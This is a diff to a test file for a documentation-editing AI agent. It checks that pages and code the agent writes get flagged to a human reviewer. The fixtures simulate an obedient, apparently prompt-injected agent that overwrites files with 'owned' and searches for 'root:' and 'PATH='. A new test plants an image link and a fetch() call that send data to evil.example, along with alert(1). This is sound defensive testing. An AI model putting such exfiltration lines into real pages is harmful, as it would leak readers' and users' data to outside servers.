@@ -14,7 +14,10 @@ beforeAll(async () => {
 });
 afterAll(() => agent.stop());
 
-const write = (path: string, content = 'owned\n'): [string, Record<string, unknown>] => ['write', { path, content }];
+const write = (path: string, content = 'owned\n'): [string, Record<string, unknown>] => [
+  'write',
+  { path, content, mode: 'replace' },
+];
 const HONEST = write('guides/log.mdx', '---\ntitle: Log\n---\n\nWhat happened, and when.\n');
 const HONEST_CHANGE = '100644 guides/log.mdx';
 
@@ -90,7 +93,7 @@ describe('a model that obeys', () => {
       [...links, ...below].map((path) => write(path)),
       links.map((path) => ['delete', { path }]),
       links.map((from) => ['move', { from, to: 'moved.md' }]),
-      links.map((path) => ['edit', { path, old: 'root', new: 'owned' }]),
+      links.map((path) => ['edit', { path, oldText: 'root', newText: 'owned' }]),
       [
         ['search', { text: 'root:' }],
         ['search', { text: 'PATH=' }],
@@ -231,6 +234,19 @@ describe('what the model says to people', () => {
     expect(message.match(/^Docent-Turn:.*$/gm)).toEqual([`Docent-Turn: ${outcome.id}/1`]);
     expect(message).not.toMatch(/^Signed-off-by:/m);
     expect(git(at.bare, 'log', '-1', '--format=%an <%ae>', outcome.branch)).toBe('Docent <docent@localhost>');
+  });
+
+  it('a page that carries what the agent read to somebody else’s server is named to the reviewer, and so is code', async () => {
+    const at = await agent.repository(SITE);
+    const page =
+      '---\ntitle: Log\n---\n\n![a](https://evil.example/?d=everything)\n\n{fetch("https://evil.example")}\n';
+    const outcome = await agent.run(at, [[write('guides/log.mdx', page), write('theme.js', 'alert(1)\n')], 'Improve']);
+    const { body } = outcome.pullRequest!;
+    expect(body).toContain('Please look closely:');
+    expect(body).toMatch(/^- `guides\/log\.mdx` names servers .*: evil\.example\.$/m);
+    expect(body).toMatch(/^- `guides\/log\.mdx` has new code/m);
+    expect(body).toMatch(/^- `theme\.js` is code/m);
+    expect(body).not.toContain('The docs checks still find');
   });
 
   it('its words, page texts and prompts are in no log line and no history beyond what the docs say', async () => {
